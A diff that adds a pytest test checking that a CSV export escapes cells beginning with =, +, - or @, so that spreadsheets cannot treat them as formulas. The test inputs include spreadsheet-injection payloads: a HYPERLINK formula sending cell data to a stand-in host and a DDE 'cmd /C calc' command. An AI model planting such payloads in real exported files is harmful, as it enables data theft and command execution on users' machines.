@@ -61,6 +61,25 @@ def test_json_escapes_what_json_dumps_leaves_raw_and_parses_back_exactly(capsys:
     assert json.loads(out) == value
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"see")', '\'=HYPERLINK("http://x.example/?"&A1,"see")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-inf", "'-inf"),
+        ("\t=1", "\\x09=1"),
+        ("-1", "-1"),
+        ("+44.5e3", "+44.5e3"),
+        ("rate limit = 5", "rate limit = 5"),
+    ],
+)
+def test_csv_cells_never_start_a_spreadsheet_formula(capsys: pytest.CaptureFixture[str], text: str, cell: str) -> None:
+    print_csv([{"error": text}], ["error"])
+    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [["error"], [cell]]
+
+
 def test_csv_has_its_header_without_rows_and_no_raw_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
     print_csv([], ["key", "count"])
     assert capsys.readouterr().out == "key,count\n"
